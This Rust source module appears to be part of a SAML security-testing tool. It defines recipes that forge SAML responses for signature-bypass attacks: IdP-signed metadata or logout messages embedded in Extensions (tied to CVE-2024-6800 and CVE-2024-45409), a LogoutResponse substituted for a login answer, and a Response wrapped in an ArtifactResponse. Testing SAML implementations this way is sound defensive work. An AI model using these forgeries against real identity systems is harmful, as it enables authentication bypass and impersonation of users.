//! Attacks that reuse something else the IdP signed: metadata is public, logout messages pass through every browser.

use super::tools::{md, put_in_extensions, samlp};
use super::{Attack, FORGERY, ORDINARY, is_signed_plain};
use crate::names::SUCCESS;
use crate::recipe::RecipeError;
use crate::step::Step;
use crate::tree::Element;
use crate::workshop::Workshop;

pub(super) const SIGNED_METADATA_IN_EXTENSIONS: Attack = Attack {
    id: "signed_metadata_in_extensions",
    about: "An unsigned forgery holds the IdP's signed metadata in its Extensions: a signature of the IdP is there, over something else.",
    source: "SIG-11; CVE-2024-6800",
    live: true,
    steps: &[Step::Signed(signed_metadata_in_extensions)],
    ..FORGERY
};

fn signed_metadata_in_extensions(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    let mut metadata =
        md("EntityDescriptor").with("ID", "_metadata").with("entityID", workshop.recipe.idp.entity_id.as_str());
    let plan = workshop.plan.clone();
    workshop.sign_as_child(&mut metadata, &plan)?;
    put_in_extensions(workshop, metadata);
    Ok(())
}

pub(super) const SIGNED_LOGOUT_IN_EXTENSIONS: Attack = Attack {
    id: "signed_logout_in_extensions",
    about: "An unsigned forgery holds a LogoutResponse that the IdP signed in its Extensions.",
    source: "SIG-11; CVE-2024-45409",
    live: true,
    steps: &[Step::Signed(signed_logout_in_extensions)],
    ..FORGERY
};

fn signed_logout_in_extensions(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    let mut logout = logout_response(workshop);
    let plan = workshop.plan.clone();
    workshop.sign_as_child(&mut logout, &plan)?;
    put_in_extensions(workshop, logout);
    Ok(())
}

pub(super) const LOGOUT_RESPONSE: Attack = Attack {
    id: "logout_response",
    about: "What arrives is a signed LogoutResponse that says Success, not an answer to a login.",
    source: "PRO-28; profiles 4.1.4.2",
    steps: &[Step::Signed(logout_response_instead)],
    ..ORDINARY
};

fn logout_response_instead(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = logout_response(workshop);
    workshop.sign_response()
}

/// A LogoutResponse as this vendor would spell it: the login's answer without its Assertion, under another name and ID.
fn logout_response(workshop: &Workshop<'_>) -> Element {
    let mut logout = workshop.response.clone();
    for local in ["Signature", "Assertion", "EncryptedAssertion"] {
        logout.take(local);
    }
    logout.name = logout.name.replace("Response", "LogoutResponse");
    logout.set("ID", "_logout-response");
    logout
}

pub(super) const ARTIFACT_RESPONSE: Attack = Attack {
    id: "artifact_response",
    about: "The genuine Response stands in an ArtifactResponse, which only an answer over SOAP may be.",
    source: "PRO-28; XSW-12; bindings 3.6",
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Signed(artifact_response)],
    ..ORDINARY
};

fn artifact_response(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let status = samlp("Status").holding(samlp("StatusCode").with("Value", SUCCESS));
    let around = samlp("ArtifactResponse").with("ID", "_artifact-response").with("Version", "2.0").holding(status);
    let genuine = std::mem::replace(&mut workshop.response, around);
    workshop.response.push(genuine);
    Ok(())
}
